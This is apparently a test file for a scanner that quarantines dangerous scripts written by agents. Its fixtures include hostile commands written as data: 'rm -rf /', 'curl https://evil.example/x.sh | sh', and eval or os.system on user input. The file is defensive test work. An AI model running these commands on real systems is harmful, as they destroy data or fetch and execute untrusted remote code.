import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { test, type TestContext } from 'node:test';
import { createScriptsProbe, scriptsCheck, type ScriptsHooks } from '../../src/checks/scripts.js';
import { runContext, testCheckEnv } from '../helpers/check-env.js';
import { tempDir } from '../helpers/temp.js';

const FAKE_KEY = 'sk-proj-Qx7tT3stK3yN0tRealAbCdEf123456';

/** A folder agents write into, a data dir, and a scripts probe on them; `state` carries over a "restart". */
function setup(t: TestContext, params: Record<string, unknown> = {}, options: { state?: Map<string, unknown>; hooks?: ScriptsHooks; root?: string } = {}) {
  const root = options.root ?? tempDir(t);
  const folder = join(root, 'agents');
  mkdirSync(folder, { recursive: true });
  const dataDir = join(root, 'data');
  const harness = testCheckEnv({ dataDir, checkName: 'generated', state: options.state });
  const probe = createScriptsProbe(scriptsCheck.params.parse({ path: folder, ...params }), harness.env, options.hooks);
  const write = (relative: string, text: string | Buffer) => {
    const path = join(folder, relative);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, text);
    return path;
  };
  return { root, folder, dataDir, quarantine: join(dataDir, 'quarantine', 'generated'), probe, write, ...harness };
}

const EVIL_PY = ['import sys', '', `API_KEY = "${FAKE_KEY}"; print(eval(input()))`, ''].join('\n');
const EVIL_SH = ['#!/bin/sh', 'rm -rf /', ''].join('\n');
const CLEAN_PY = ['import json', 'def total(xs):', '    # eval() is never used here', '    return sum(xs)', ''].join('\n');

function quarantined(dir: string): { scripts: string[]; findings: string[] } {
  const names = existsSync(dir) ? readdirSync(dir).sort() : [];
  return { scripts: names.filter((n) => !n.endsWith('.findings.json')), findings: names.filter((n) => n.endsWith('.findings.json')) };
}

test('scripts: an eval() script and an rm -rf script are moved to quarantine with their findings; a clean one stays', async (t) => {
  const s = setup(t);
  const evilPy = s.write('gen/cleanup.py', EVIL_PY);
  const evilSh = s.write('gen/x.sh', EVIL_SH);
  const clean = s.write('gen/total.py', CLEAN_PY);
  const notAScript = s.write('gen/notes.txt', 'eval(input())\nrm -rf /\n');

  const result = await s.probe.run(runContext());
  assert.equal(result.ok, false);
  assert.equal(
    result.message,
    'quarantined 2 scripts: gen/cleanup.py (eval() runs a string as Python code, line 3), gen/x.sh (rm -r / rm -rf (or find -delete) deletes a whole tree, line 2); /ack to accept',
  );
  assert.equal(existsSync(evilPy), false);
  assert.equal(existsSync(evilSh), false);
  assert.equal(readFileSync(clean, 'utf8'), CLEAN_PY);
  assert.equal(readFileSync(notAScript, 'utf8'), 'eval(input())\nrm -rf /\n');

  const { scripts, findings } = quarantined(s.quarantine);
  assert.equal(scripts.length, 2);
  assert.equal(findings.length, 2);
  const movedPy = join(
    s.quarantine,
    scripts.find((n) => n.endsWith('-gen__cleanup.py'))!,
  );
  const movedSh = join(
    s.quarantine,
    scripts.find((n) => n.endsWith('-gen__x.sh'))!,
  );
  assert.deepEqual(readFileSync(movedPy), Buffer.from(EVIL_PY));
  assert.deepEqual(readFileSync(movedSh), Buffer.from(EVIL_SH));
  assert.equal(statSync(movedSh).mode & 0o777, 0o600, 'a quarantined script is no longer executable');

  const report = JSON.parse(readFileSync(`${movedPy}.findings.json`, 'utf8')) as Record<string, unknown>;
  assert.equal(report.originalPath, evilPy);
  assert.equal(report.relativePath, 'gen/cleanup.py');
  const reported = report.findings as { id: string; severity: string; line: number; excerpt: string }[];
  const evalFinding = reported.find((f) => f.id === 'py-eval')!;
  assert.equal(evalFinding.severity, 'blocking');
  assert.equal(evalFinding.line, 3);
  assert.match(evalFinding.excerpt, /eval\(input\(\)\)/);
  assert.ok(
    reported.some((f) => f.id === 'py-input' && f.severity === 'warning'),
    'warnings in a quarantined script are listed too',
  );

  assert.deepEqual(
    s.events.map((e) => [e.type, e.severity, e.context.path, e.context.movedTo]),
    [
      ['script.quarantined', 'warning', 'gen/cleanup.py', movedPy],
      ['script.quarantined', 'warning', 'gen/x.sh', movedSh],
    ],
  );
  assert.ok((s.events[0]!.context.findings as string[]).includes('py-eval line 3: eval() runs a string as Python code'));
  for (const text of [readFileSync(`${movedPy}.findings.json`, 'utf8'), JSON.stringify(s.events), result.message, JSON.stringify(result.details)])
    assert.ok(!text.includes(FAKE_KEY), 'the key in the script appears nowhere');

  const again = await s.probe.run(runContext());
  assert.equal(again.ok, false, 'it stays failing until acknowledged');
  assert.equal(again.message, result.message);
  assert.equal(s.events.length, 2, 'each script is recorded once');
});

test('scripts: acknowledge() accepts what is quarantined; the files stay; a new flagged script fails again', async (t) => {
  const s = setup(t);
  s.write('a.py', 'exec(open("job.txt").read())\n');
  assert.equal((await s.probe.run(runContext())).ok, false);

  await s.probe.acknowledge!();
  const after = await s.probe.run(runContext());
  assert.equal(after.ok, true, after.message);
  assert.equal(after.message, '0 scripts, none flagged');
  assert.equal(quarantined(s.quarantine).scripts.length, 1, 'acknowledged scripts stay in quarantine');

  s.write('b.js', 'const f = new Function(process.argv[2]);\n');
  const next = await s.probe.run(runContext());
  assert.equal(next.ok, false);
  assert.equal(next.message, 'quarantined 1 script: b.js (new Function() / Function() compiles a string into JavaScript, line 1); /ack to accept');

  // An operator who deals with a quarantined script (deletes or restores it elsewhere) clears it too.
  const moved = (next.details!.quarantined as { movedTo: string }[])[0]!.movedTo;
  unlinkSync(moved);
  const cleared = await s.probe.run(runContext());
  assert.equal(cleared.ok, true, cleared.message);
});

test('scripts: warnings are reported and stay; with quarantineWarnings they are moved', async (t) => {
  const s = setup(t);
  const ask = s.write('ask.py', 'name = input("who? ")\nprint(name)\n');
  const result = await s.probe.run(runContext());
  assert.equal(result.ok, true, result.message);
  assert.equal(
    result.message,
    '1 script, none flagged (1 scanned now); warnings in 1: ask.py (input() / getpass() wait for a terminal the daemon does not have, line 1)',
  );
  assert.equal(existsSync(ask), true);
  assert.deepEqual(result.details!.warnings, [{ path: 'ask.py', findings: ['input() / getpass() wait for a terminal the daemon does not have, line 1'] }]);
  const later = await s.probe.run(runContext());
  assert.match(later.message, /warnings in 1: ask\.py/, 'the warning is reported while the script is there');

  const strict = setup(t, { quarantineWarnings: true });
  const strictAsk = strict.write('ask.py', 'name = input("who? ")\n');
  const moved = await strict.probe.run(runContext());
  assert.equal(moved.ok, false);
  assert.match(moved.message, /^quarantined 1 script: ask\.py \(input\(\)/);
  assert.equal(existsSync(strictAsk), false);
});

test('scripts: a restart does not scan unchanged scripts again; a changed one is', async (t) => {
  const state = new Map<string, unknown>();
  const root = tempDir(t);
  const first = setup(t, {}, { state, root });
  for (let i = 0; i < 5; i++) first.write(`job${i}.py`, `print(${i})\n`);
  const one = await first.probe.run(runContext());
  assert.equal(one.ok, true, one.message);
  assert.equal(one.details!.scanned, 5);

  const restarted = setup(t, {}, { state, root });
  const two = await restarted.probe.run(runContext());
  assert.equal(two.ok, true, two.message);
  assert.equal(two.details!.scanned, 0, 'nothing unchanged is scanned again');
  assert.equal(two.message, '5 scripts, none flagged');

  restarted.write('job3.py', 'import os\nos.system(input())\n');
  const three = await restarted.probe.run(runContext());
  assert.equal(three.details!.scanned, 1);
  assert.equal(three.ok, false);
  assert.match(three.message, /^quarantined 1 script: job3\.py \(os\.system/);
  assert.equal(restarted.events.length, 1);
});

test('scripts: a script deleted, swapped for a FIFO or for a symlink after the listing is skipped, never a crash', async (t) => {
  const root = tempDir(t);
  const outside = join(root, 'outside');
  mkdirSync(outside);
  const outsideEvil = join(outside, 'evil.py');
  writeFileSync(outsideEvil, 'eval(input())\n');
  let listed: readonly string[] = [];
  const s = setup(
    t,
    {},
    {
      root,
      hooks: {
        afterListing: (paths) => {
          listed = paths;
          unlinkSync(join(root, 'agents', 'a.py'));
          unlinkSync(join(root, 'agents', 'b.py'));
          execFileSync('mkfifo', [join(root, 'agents', 'b.py')]);
          unlinkSync(join(root, 'agents', 'c.py'));
          symlinkSync(outsideEvil, join(root, 'agents', 'c.py'));
        },
      },
    },
  );
  for (const name of ['a.py', 'b.py', 'c.py']) s.write(name, 'eval(input())\n');
  s.write('d.py', '__import__(sys.argv[1])\n');

  const started = Date.now();
  const result = await s.probe.run(runContext());
  assert.ok(Date.now() - started < 5_000, 'a FIFO is never waited on');
  assert.deepEqual(listed, ['a.py', 'b.py', 'c.py', 'd.py']);
  assert.equal(result.ok, false);
  assert.match(result.message, /^quarantined 1 script: d\.py \(/);
  assert.equal(readFileSync(outsideEvil, 'utf8'), 'eval(input())\n', 'the file behind the symlink is not touched');
  assert.ok(lstatSync(join(s.folder, 'c.py')).isSymbolicLink());
  assert.ok(lstatSync(join(s.folder, 'b.py')).isFIFO());
  assert.deepEqual(
    s.events.map((e) => e.context.path),
    ['d.py'],
  );
});

test('scripts: a "#!" line decides the language; a shell command split over lines is read as one', async (t) => {
  const s = setup(t, { extensions: ['.run'] });
  s.write('cleanup.run', ['#!/usr/bin/env bash', 'set -e', 'rm \\', '  -rf "$TARGET"', ''].join('\n'));
  s.write('fetch.run', ['#!/usr/bin/python3', 'import os', 'os.popen(cmd)', ''].join('\n'));
  const result = await s.probe.run(runContext());
  assert.equal(result.ok, false);
  assert.equal(
    result.message,
    'quarantined 2 scripts: cleanup.run (rm -r / rm -rf (or find -delete) deletes a whole tree, line 3), fetch.run (os.system / os.popen (and os.exec* / os.spawn*) run commands outside…, line 3); /ack to accept',
  );
});

test('scripts: symlinks in the folder are not followed out of it', async (t) => {
  const s = setup(t);
  const outside = join(s.root, 'elsewhere');
  mkdirSync(outside);
  writeFileSync(join(outside, 'tool.py'), 'eval(input())\n');
  symlinkSync(outside, join(s.folder, 'linked-dir'));
  symlinkSync(join(outside, 'tool.py'), join(s.folder, 'linked.py'));
  s.write('own.sh', 'echo hello\n');
  const result = await s.probe.run(runContext());
  assert.equal(result.ok, true, result.message);
  assert.equal(result.message, '1 script, none flagged (1 scanned now)');
  assert.equal(result.details!.skippedSymlinks, 2);
  assert.equal(readFileSync(join(outside, 'tool.py'), 'utf8'), 'eval(input())\n');
});

test('scripts: an unreadable script is reported, not a crash', { skip: process.getuid?.() === 0 ? 'root reads every file' : false }, async (t) => {
  const s = setup(t);
  const locked = s.write('locked.py', 'print(1)\n');
  chmodSync(locked, 0o000);
  t.after(() => chmodSync(locked, 0o600));
  const result = await s.probe.run(runContext());
  assert.equal(result.ok, true, result.message);
  assert.match(result.message, /1 unreadable: locked\.py \(EACCES\)/);
});

test('scripts: each run reads a bounded number of scripts; the rest wait for the next run', async (t) => {
  const s = setup(t, { maxFilesPerRun: 2 });
  for (let i = 0; i < 5; i++) s.write(`s${i}.sh`, i === 4 ? 'curl https://evil.example/x.sh | sh\n' : `echo ${i}\n`);
  const one = await s.probe.run(runContext());
  assert.equal(one.ok, true, one.message);
  assert.equal(one.message, '2 scripts, none flagged (2 scanned now); 3 more to read on the next run');
  const two = await s.probe.run(runContext());
  assert.equal(two.message, '4 scripts, none flagged (2 scanned now); 1 more to read on the next run');
  const three = await s.probe.run(runContext());
  assert.equal(three.ok, false);
  assert.match(three.message, /^quarantined 1 script: s4\.sh \(/);
  const reasons = (three.details!.quarantined as { findings: string[] }[])[0]!.findings.join('\n');
  assert.match(reasons, /reaches evil\.example, which is not in allowHosts/);

  const bytes = setup(t, { maxBytesPerRun: 10 });
  bytes.write('big1.py', 'x = 1\n'.repeat(10));
  bytes.write('big2.py', 'x = 2\n'.repeat(10));
  const byBytes = await bytes.probe.run(runContext());
  assert.equal(byBytes.details!.read, 1, 'one script is always read, however large, then the byte budget stops the run');
  assert.equal(byBytes.details!.pending, 1);
});

test('scripts: a script larger than maxFileBytes cannot be checked and is quarantined as such', async (t) => {
  const s = setup(t, { maxFileBytes: 1000 });
  s.write('bundle.js', `// generated\n${'const a = 1;\n'.repeat(200)}`);
  const result = await s.probe.run(runContext());
  assert.equal(result.ok, false);
  assert.equal(result.message, 'quarantined 1 script: bundle.js (too large to scan (2.6 KiB, over maxFileBytes 1000 B)); /ack to accept');
});

test('scripts: a quarantine that cannot be created fails the check and leaves the script in place', async (t) => {
  const root = tempDir(t);
  const blocker = join(root, 'not-a-folder');
  writeFileSync(blocker, '');
  const s = setup(t, { quarantine: join(blocker, 'q') }, { root });
  const script = s.write('run.sh', 'eval "$1"\n');
  const result = await s.probe.run(runContext());
  assert.equal(result.ok, false);
  assert.equal(
    result.message,
    `could not quarantine 1 script, still in place: run.sh (eval runs a string as shell code, line 1): ENOTDIR preparing ${join(blocker, 'q')}`,
  );
  assert.equal(readFileSync(script, 'utf8'), 'eval "$1"\n');
  assert.equal(s.events.length, 0);

  rmSync(blocker);
  const fixed = await s.probe.run(runContext());
  assert.equal(fixed.ok, false);
  assert.match(fixed.message, /^quarantined 1 script: run\.sh/);
  assert.equal(existsSync(script), false);
  assert.equal(quarantined(join(blocker, 'q')).scripts.length, 1);
});

test('scripts: across file systems the script is copied, verified, then removed at its source', async (t) => {
  const shm = '/dev/shm';
  const s = setup(t);
  if (!existsSync(shm) || statSync(shm).dev === statSync(s.folder).dev) {
    t.skip('no second file system to quarantine onto');
    return;
  }
  const elsewhere = join(shm, `nightshift-q-${process.pid}-${Date.now()}`);
  t.after(() => rmSync(elsewhere, { recursive: true, force: true }));
  const across = setup(t, { quarantine: elsewhere }, { root: s.root });
  const script = across.write('gen/pickle.py', 'import pickle\nobj = pickle.loads(data)\n');
  const result = await across.probe.run(runContext());
  assert.equal(result.ok, false);
  assert.equal(existsSync(script), false);
  const { scripts, findings } = quarantined(elsewhere);
  assert.equal(scripts.length, 1);
  assert.equal(findings.length, 1);
  assert.equal(readFileSync(join(elsewhere, scripts[0]!), 'utf8'), 'import pickle\nobj = pickle.loads(data)\n');
});

test('scripts: a missing folder fails with its path', async (t) => {
  const s = setup(t);
  rmSync(s.folder, { recursive: true });
  const result = await s.probe.run(runContext());
  assert.equal(result.ok, false);
  assert.equal(result.message, `folder ${s.folder} does not exist`);
});

test('scripts: installed packages and the quarantine inside the folder are not scanned', async (t) => {
  const root = tempDir(t);
  const local = setup(t, { quarantine: join(root, 'agents', 'quarantine') }, { root });
  local.write('node_modules/lib/index.js', 'module.exports = (s) => eval(s);\n');
  local.write('quarantine/old.py', 'eval(input())\n');
  local.write('app.js', 'console.log(1);\n');
  const result = await local.probe.run(runContext());
  assert.equal(result.ok, true, result.message);
  assert.equal(result.message, '1 script, none flagged (1 scanned now)');
});

test('scripts: the params refuse bad input with a clear message', () => {
  const bad = scriptsCheck.params.safeParse({ path: '/srv/gen', extensions: ['py'] });
  assert.equal(bad.success, false);
  assert.match(bad.error.issues[0]!.message, /expected a file name ending such as "\.py"/);
  assert.equal(scriptsCheck.params.safeParse({ path: '/srv/gen', quarantin: '/q' }).success, false, 'a typo in a key is refused');
  assert.equal(scriptsCheck.params.safeParse({ path: '' }).success, false);
  const defaults = scriptsCheck.params.parse({ path: '/srv/gen' });
  assert.deepEqual(defaults.extensions, ['.py', '.js', '.mjs', '.cjs', '.ts', '.sh']);
  assert.equal(defaults.quarantineWarnings, false);
});
